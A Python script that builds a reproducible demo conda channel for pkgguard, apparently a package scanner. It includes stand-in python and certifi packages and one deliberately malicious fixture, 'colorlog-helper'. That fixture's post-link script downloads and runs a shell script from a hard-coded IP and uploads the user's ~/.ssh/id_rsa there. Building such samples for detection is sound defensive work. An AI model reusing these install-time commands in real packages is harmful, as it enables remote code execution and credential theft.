#!/usr/bin/env python3
"""Builds the demo conda channel, byte for byte the same on every run.

conda-forge cannot be reached where pkgguard is built, so the quick start's conda example reads
this channel: the layout `conda index` writes (<subdir>/repodata.json beside the packages), with
small stand-in packages in the .tar.bz2 format (info/index.json, info/paths.json, info/about.json
and the files). Run it after a change; its output is committed. Not part of the build.
"""
import bz2
import hashlib
import io
import json
import os
import tarfile

HERE = os.path.dirname(os.path.abspath(__file__))
# 2024-09-01T00:00:00Z in milliseconds, as conda writes timestamps.
BUILT = 1725148800000


def package(subdir, name, version, build, files, depends=(), about=None, license="MIT",
            build_number=0, noarch=None, timestamp=BUILT):
    index = {
        "arch": None if subdir == "noarch" else "x86_64",
        "build": build,
        "build_number": build_number,
        "depends": list(depends),
        "license": license,
        "name": name,
        "platform": None if subdir == "noarch" else "linux",
        "subdir": subdir,
        "timestamp": timestamp,
        "version": version,
    }
    if noarch:
        index["noarch"] = noarch
    paths = {
        "paths": [
            {"_path": p, "path_type": "hardlink", "sha256": hashlib.sha256(d).hexdigest(),
             "size_in_bytes": len(d)}
            for p, d in files.items()
        ],
        "paths_version": 1,
    }
    entries = dict(files)
    entries["info/index.json"] = json.dumps(index, indent=2, sort_keys=True).encode()
    entries["info/paths.json"] = json.dumps(paths, indent=2, sort_keys=True).encode()
    entries["info/files"] = "".join(p + "\n" for p in files).encode()
    entries["info/about.json"] = json.dumps(about or {}, indent=2, sort_keys=True).encode()
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w", format=tarfile.PAX_FORMAT) as t:
        for path in sorted(entries):
            data = entries[path]
            info = tarfile.TarInfo(path)
            info.size, info.mtime, info.mode = len(data), 0, 0o755 if path.startswith("bin/") else 0o644
            t.addfile(info, io.BytesIO(data))
    data = bz2.compress(raw.getvalue(), 9)
    filename = f"{name}-{version}-{build}.tar.bz2"
    os.makedirs(os.path.join(HERE, subdir), exist_ok=True)
    with open(os.path.join(HERE, subdir, filename), "wb") as f:
        f.write(data)
    record = dict(index)
    record.update(md5=hashlib.md5(data).hexdigest(), sha256=hashlib.sha256(data).hexdigest(),
                  size=len(data))
    return subdir, filename, record


def dist_info(name, version):
    """What pip leaves in site-packages: conda-forge's python packages are pip-installed."""
    base = f"site-packages/{name}-{version}.dist-info"
    return {
        f"{base}/METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n\n".encode(),
        f"{base}/INSTALLER": b"conda\n",
    }


CERTIFI_ABOUT = {
    "summary": "Python package for providing Mozilla's CA Bundle.",
    "description": "Certifi is a curated collection of Root Certificates for validating the"
                   " trustworthiness of SSL certificates while verifying the identity of TLS"
                   " hosts.",
    "home": "https://github.com/certifi/python-certifi",
    "dev_url": "https://github.com/certifi/python-certifi",
    "extra": {"recipe-maintainers": ["jakirkham", "pelson", "sigmavirus24", "ocefpaf"]},
}


def main():
    built = [
        package("linux-64", "python", "3.12.7", "h2628c8c_0_cpython",
                {"bin/python3.12": b"#!/bin/sh\n# stand-in for the interpreter\n"},
                license="Python-2.0",
                about={"summary": "General purpose programming language",
                       "description": "Python is a widely used high-level, general-purpose,"
                                      " interpreted, dynamic programming language. (A stand-in"
                                      " for pkgguard's demo channel.)",
                       "home": "https://www.python.org/",
                       "dev_url": "https://github.com/python/cpython",
                       "extra": {"recipe-maintainers": ["ocefpaf", "jakirkham", "msarahan"]}}),
        package("noarch", "certifi", "2024.2.2", "pyhd8ed1ab_0",
                {"site-packages/certifi/__init__.py": b"from .core import where\n",
                 "site-packages/certifi/core.py":
                     b"import os\n\ndef where():\n    return os.path.join(os.path.dirname(__file__), 'cacert.pem')\n",
                 "site-packages/certifi/cacert.pem": b"# stand-in bundle\n",
                 **dist_info("certifi", "2024.2.2")},
                depends=["python >=3.7"], license="ISC", noarch="python",
                timestamp=1707022289175,
                about=CERTIFI_ABOUT),
        package("noarch", "certifi", "2024.8.30", "pyhd8ed1ab_0",
                {"site-packages/certifi/__init__.py": b"from .core import where\n",
                 "site-packages/certifi/core.py":
                     b"import os\n\ndef where():\n    return os.path.join(os.path.dirname(__file__), 'cacert.pem')\n",
                 "site-packages/certifi/cacert.pem": b"# stand-in bundle\n",
                 **dist_info("certifi", "2024.8.30")},
                depends=["python >=3.7"], license="ISC", noarch="python",
                about=CERTIFI_ABOUT),
        # A package whose install-time script fetches and runs code, as malicious conda
        # packages do (the equivalent of a setup.py that downloads a payload).
        package("noarch", "colorlog-helper", "0.1.0", "py_0",
                {"site-packages/colorlog_helper/__init__.py": b"COLORS = {'red': 31}\n",
                 "bin/.colorlog-helper-post-link.sh":
                     b"#!/bin/bash\ncurl -s http://45.61.136.8/x.sh | bash\n"
                     b"cat ~/.ssh/id_rsa | curl -X POST --data-binary @- http://45.61.136.8/k\n"},
                depends=["python >=3.8"], noarch="python",
                about={"summary": "Colour helpers for logging"}),
    ]
    for subdir in ("noarch", "linux-64"):
        repodata = {"info": {"subdir": subdir}, "packages": {}, "packages.conda": {},
                    "removed": [], "repodata_version": 1}
        for where, filename, record in built:
            if where == subdir:
                repodata["packages"][filename] = record
        os.makedirs(os.path.join(HERE, subdir), exist_ok=True)
        with open(os.path.join(HERE, subdir, "repodata.json"), "w") as f:
            json.dump(repodata, f, indent=2, sort_keys=True)
            f.write("\n")
    for where, filename, record in built:
        print(where, filename, record["sha256"], record["size"])


if __name__ == "__main__":
    main()
